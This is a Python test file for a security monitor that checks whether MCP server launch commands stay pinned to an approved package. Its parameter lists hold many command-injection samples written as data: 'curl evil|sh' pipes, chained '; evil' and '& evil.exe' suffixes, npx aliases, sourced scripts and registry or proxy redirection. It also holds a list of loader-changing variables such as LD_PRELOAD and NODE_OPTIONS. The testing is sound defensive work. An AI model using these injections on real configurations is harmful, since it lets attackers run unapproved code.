"""Commands that name the approved pin and run something else: none of them may read as pinned."""

import pytest

from connectors._launch.command import parse
from connectors._launch.launch import Launch
from connectors._launch.redirects import redirecting
from connectors.mcp_config import parse_config
from monitor.domain.deployment import PinKind
from monitor.domain.purl import Purl

A = "@acme/server@1.2.3"
ACME = Purl.npm("@acme/server")
IMAGE = f"acme/server@sha256:{'a' * 64}"


def named(launch: Launch) -> set[str]:
    """Every package that a launch names, as text."""
    inner = named(launch.inner) if launch.inner else set()
    beside = {name for each in launch.beside for name in named(each)}
    return ({str(launch.purl)} if launch.purl else set()) | inner | beside


@pytest.mark.parametrize(
    ("command", "arguments"),
    [
        ("npx", ["-p", A, "-c", "curl evil|sh"]),
        ("npx", ["-p", A, "--", "sh", "-c", "curl evil|sh"]),
        ("npx", ["-p", A, "evil"]),
        ("npx", ["-p", "@acme/node@1.2.3", "node", "-e", "evil"]),
        ("npx", ["-y", "--brand-new", A]),
        ("npx", ["-y", "--pack=evil", A]),
        ("npx", ["-y", "--tag", "--package=evil", A]),
        ("npx", ["--no-audit", A, "--registry=https://registry.example", "x"]),
        ("npm", ["exec", A, "--package=evil"]),
        ("npm", ["--brand-new", "exec", A]),
        ("bunx", ["--preload", "/srv/evil.js", A]),
        ("pnpm", ["--package", A, "-c", "dlx", "evil"]),
        ("uvx", ["--from", "acme==1", "python", "-c", "evil"]),
        ("uvx", ["--with", "evil", "acme==1"]),
        ("uvx", ["--with-editable", "/srv/evil", "acme==1"]),
        ("uvx", ["--python", "/srv/evil/python", "acme==1"]),
        ("uvx", ["--brand-new", "acme==1"]),
        ("pipx", ["run", "--spec", "acme==1", "evil"]),
        ("pipx", ["--brand-new", "run", "acme==1"]),
        ("deno", ["run", "--preload", "/srv/evil.js", f"npm:{A}"]),
        ("go", ["run", "-toolexec", "/srv/evil", "github.com/acme/server@v1.2.3"]),
        ("npx", ["tsx@4.0.0", "/srv/evil.ts"]),
        ("uvx", ["mcp-proxy@1.0", "--", "/srv/evil"]),
        ("uvx", ["mcp-proxy@1.0", "http://[x"]),
        ("docker", ["run", "--entrypoint", "sh", IMAGE, "-c", "curl evil|sh"]),
        ("docker", ["run", IMAGE, "sh", "-c", "curl evil|sh"]),
        ("docker", ["run", "--brand-new", "evil", IMAGE]),
        ("podman", ["run", "--rootfs", IMAGE]),
        ("podman", ["--brand-new", "run", IMAGE]),
        ("/srv/evil/npx", ["-y", A]),
        ("./npx", ["-y", A]),
        ("C:\\Users\\Public\\npx.cmd", ["-y", A]),
        ("/usr/bin/../../srv/evil/npx", ["-y", A]),
        ("/srv/evil/env", ["npx", "-y", A]),
        ("/srv/evil/python3", ["-m", "uv", "tool", "run", "acme==1"]),
        ("npx -y @acme/server@1.2.3; evil", []),
        ("sh", ["-c", f"export NPM_CONFIG_REGISTRY=$X; npx -y {A}"]),
        ("sh", ["-c", f". /srv/evil.sh && npx -y {A}"]),
        ("sh", ["-c", f"source /srv/evil.sh; npx -y {A}"]),
        ("sh", ["-c", f"set -a; . ./.env; npx -y {A}"]),
        ("sh", ["-c", f"alias npx=evil; npx -y {A}"]),
        ("sh", ["-c", f"npx -y {A}; evil"]),
        ("sh", ["-c", f"npx -y {A} || evil"]),
        ("sh", ["-c", f"npx -y {A} & evil"]),
        ("sh", ["-c", f"evil | npx -y {A}"]),
        ("sh", ["-c", f"npx -y {A}\nevil"]),
        ("sh", ["-c", f"echo registry=https://registry.example > .npmrc; npx -y {A}"]),
        ("sh", ["-c", f"npx -y $X {A}"]),
        ("sh", ["-c", f'npx -y "$@" {A}']),
        ("sh", ["-c", f"npx -y {A} `evil`"]),
        ("sh", ["-c", f"if true; then npx -y {A}; fi"]),
        ("bash", ["-c", f"npx() {{ evil; }}; npx -y {A}"]),
        ("cmd", ["/c", "npx", "-y", A, "&", "evil.exe"]),
        ("cmd", ["/c", f"npx -y {A} & evil.exe"]),
        ("cmd", ["/c", f"npx -y {A} ' & evil.exe '"]),
        ("cmd", ["/c", "npx", "-y", A, "%X%"]),
        ("powershell", ["-Command", f"npx -y {A}; evil"]),
        ("powershell", ["-Command", f"npx -y {A} $(evil)"]),
        ("wsl", ["npx", "-y", A, ";", "evil"]),
        ("env", ["--brand-new", "npx", "-y", A]),
        ("env", ["-S", f"npx $X {A}"]),
        ("sudo", ["-R", "/srv/evil", "npx", "-y", A]),
        ("direnv", ["exec", "/srv/evil", "npx", "-y", A]),
        ("mise", ["exec", "npm:evil@1", "--", "npx", "-y", A]),
        ("conda", ["run", "-p", "/srv/evil", "npx", "-y", A]),
    ],
)
def test_a_command_that_may_run_something_else_is_unknown_and_says_why(command: str, arguments: list[str]) -> None:
    launch = parse(command, arguments)

    assert launch.kind is PinKind.UNKNOWN
    assert launch.note
    assert launch.purl is None or launch.purl.version is None


@pytest.mark.parametrize(
    ("command", "arguments", "package"),
    [
        ("npx", ["-y", "--tag", A, "evil-mcp"], "pkg:npm/evil-mcp"),
        ("npx", ["-y", "--otp", A, "evil-mcp"], "pkg:npm/evil-mcp"),
        ("uvx", ["--preview-features", "acme==1", "evil"], "pkg:pypi/evil"),
        ("podman", ["run", "--unsetenv-all", "evil", IMAGE], "pkg:docker/evil"),
        ("podman", ["run", "--passwd-entry", "x", "evil", IMAGE], "pkg:docker/evil"),
    ],
)
def test_the_value_of_an_option_is_not_the_package(command: str, arguments: list[str], package: str) -> None:
    launch = parse(command, arguments)

    assert (str(launch.purl), launch.kind) == (package, PinKind.NONE)


@pytest.mark.parametrize(
    ("command", "arguments"),
    [
        ("npx", ["-p", A, "-p", "evil", "evil"]),
        ("sh", ["-c", f"npx -y {A} --version; npx -y evil"]),
        ("sh", ["-c", f"npx -y {A} && sudo npx -y evil"]),
        ("sh", ["-c", f"while npx -y {A}; do npx -y evil; done"]),
        ("cmd", ["/c", "npx", "-y", A, "&", "npx", "-y", "evil"]),
    ],
)
def test_every_package_of_a_command_is_named_and_none_is_pinned(command: str, arguments: list[str]) -> None:
    launch = parse(command, arguments)

    assert named(launch) == {str(ACME), "pkg:npm/evil"}
    assert {each.kind for each in (launch, *launch.beside)} == {PinKind.UNKNOWN}


def test_each_package_and_each_address_of_a_command_is_a_deployment() -> None:
    data = b"""{"mcpServers": {
        "x": {"command": "uvx", "args": ["--with", "evil", "acme==1"]},
        "y": {"command": "npx", "args": ["mcp-remote@0.1.9", "--sse=https://one.example/mcp", "https://two.example/mcp"]}}}"""

    deployments, _ = parse_config(data, "mcp.json", "cursor")

    assert {each.name: str(each.purl or each.remote) for each in deployments} == {
        "x": "pkg:pypi/acme",
        "x (beside 1)": "pkg:pypi/evil",
        "y": "pkg:npm/mcp-remote@0.1.9",
        "y (far end)": "https://one.example/mcp",
        "y (beside 1)": "https://two.example/mcp",
    }


def test_a_command_that_names_very_many_packages_is_cut_and_not_pinned() -> None:
    further = ", ".join(f'"--with", "p{at}"' for at in range(500))
    data = f'{{"mcpServers": {{"x": {{"command": "uvx", "args": [{further}, "acme==1"]}}}}}}'.encode()

    deployments, _ = parse_config(data, "mcp.json", "cursor")

    assert len(deployments) == 21
    assert "the rest is not shown" in deployments[0].note


def test_an_image_that_runs_another_program_is_still_that_image() -> None:
    launch = parse("docker", ["run", "--entrypoint", "sh", IMAGE, "-c", "x"])

    assert (str(launch.digest), launch.note) == (f"sha256:{'a' * 64}", "with another entry point")


@pytest.mark.parametrize(
    ("arguments", "name"),
    [
        (["--@acme:registry=https://registry.example"], "--@acme:registry"),
        (["--@acme:registry", "https://registry.example"], "--@acme:registry"),
        (["--regist=https://registry.example"], "--regist"),
        (["--reg", "https://registry.example"], "--reg"),
        (["--prefix", "/srv/evil"], "--prefix"),
        (["--script-shell=/srv/evil"], "--script-shell"),
        (["--https-proxy=http://evil.example"], "--https-proxy"),
    ],
)
def test_an_option_of_npm_that_redirects_the_source_is_named_abbreviated_or_scoped(
    arguments: list[str], name: str
) -> None:
    launch = parse("npx", ["-y", *arguments, A])

    assert launch.redirects == (name,)


@pytest.mark.parametrize(
    ("command", "arguments"),
    [
        ("sh", ["-c", f"export NPM_CONFIG_REGISTRY=https://registry.example; npx -y {A}"]),
        ("sh", ["-c", f"NPM_CONFIG_REGISTRY=https://registry.example npx -y {A}"]),
        ("cmd", ["/c", f"set NPM_CONFIG_REGISTRY=https://registry.example&& npx -y {A}"]),
        ("powershell", ["-Command", f"$env:NPM_CONFIG_REGISTRY='https://registry.example'; npx -y {A}"]),
    ],
)
def test_a_variable_that_a_shell_line_sets_is_a_redirection(command: str, arguments: list[str]) -> None:
    launch = parse(command, arguments)

    assert launch.redirects == ("NPM_CONFIG_REGISTRY",)
    assert launch.purl
    assert launch.purl.package == ACME


@pytest.mark.parametrize(
    ("command", "arguments"),
    [
        ("/usr/local/bin/npx", ["-y", A]),
        ("/Users/rita/.nvm/versions/node/v22.1.0/bin/npx", ["-y", A]),
        ("C:\\Program Files\\nodejs\\npx.cmd", ["-y", A]),
        ("npx", ["-y", "--prefer-offline", "--loglevel=error", "--", A, "--port", "1"]),
        ("npm", ["exec", "--yes", "--", A, "--port", "1"]),
        ("npx", ["-p", A, "acme-server"]),
        ("npx", ["-p", A, "mcp-server"]),
        ("npx -y @acme/server@1.2.3", []),
        ("bash", ["-lc", f"mkdir -p /srv/app && exec npx -y {A} 2>/dev/null"]),
        ("sh", ["-c", f"export TOKEN=x && npx -y {A}"]),
        ("sh", ["-c", f'npx -y {A} --root "$HOME/files"']),
        ("sh", ["-c", f"npx -y {A} --root '$(x)'"]),
        ("cmd", ["/c", "npx", "-y", A, "C:\\Program Files (x86)\\data"]),
        ("powershell", ["-NoProfile", "-Command", f"npx -y {A}"]),
    ],
)
def test_an_ordinary_command_stays_pinned(command: str, arguments: list[str]) -> None:
    launch = parse(command, arguments)

    assert (launch.purl, launch.kind, launch.note) == (ACME.at("1.2.3"), PinKind.EXACT, "")
    assert launch.redirects == ()


@pytest.mark.parametrize(
    "name",
    [
        *("npm_config_registry", "NPM_CONFIG_@ACME:REGISTRY", "UV_DEFAULT_INDEX", "UV_OVERRIDE", "LD_PRELOAD", "NODE_OPTIONS"),
        *("PATH", "HOME", "HTTPS_PROXY", "http_proxy", "ALL_PROXY", "BASH_ENV", "ENV", "GIT_CONFIG_COUNT", "GIT_CONFIG_KEY_0"),
        *("NODE_EXTRA_CA_CERTS", "NODE_TLS_REJECT_UNAUTHORIZED", "SSL_CERT_FILE", "PIP_INDEX_URL", "DOCKER_CONTEXT", "GOPROXY"),
    ],
)  # fmt: skip
def test_a_variable_that_changes_what_is_loaded_counts(name: str) -> None:
    assert redirecting([name]) == (name,)


@pytest.mark.parametrize(
    "name", ["API_KEY", "npm_config_loglevel", "UV_NO_PROGRESS", "PIP_NO_COLOR", "AWS_PROFILE", "ACME_HOME", "MY_PATH"]
)
def test_a_variable_that_only_configures_does_not_count(name: str) -> None:
    assert redirecting([name]) == ()
